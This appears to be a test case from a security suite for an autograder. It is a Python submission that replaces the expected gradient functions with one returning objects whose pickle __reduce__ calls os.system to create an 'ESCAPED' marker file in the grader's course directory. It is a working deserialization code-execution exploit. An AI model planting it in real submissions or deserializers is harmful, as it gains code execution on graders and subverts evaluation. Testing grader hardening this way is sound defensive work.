# attack: return an object whose unpickling runs code in the grader
# asset: machine
# channel: results
# beats otter: 10
# expect: wrong,raised
# place: after
import os


class Exploit:
    def __reduce__(self):
        return os.system, ("touch @COURSE@/ESCAPED",)


def attack(*args):
    return Exploit(), {"x": Exploit()}, [Exploit()]


product_gradients = mse_gradients = neuron_gradients = neuron_batch_gradients = (
    two_layer_gradients
) = attack
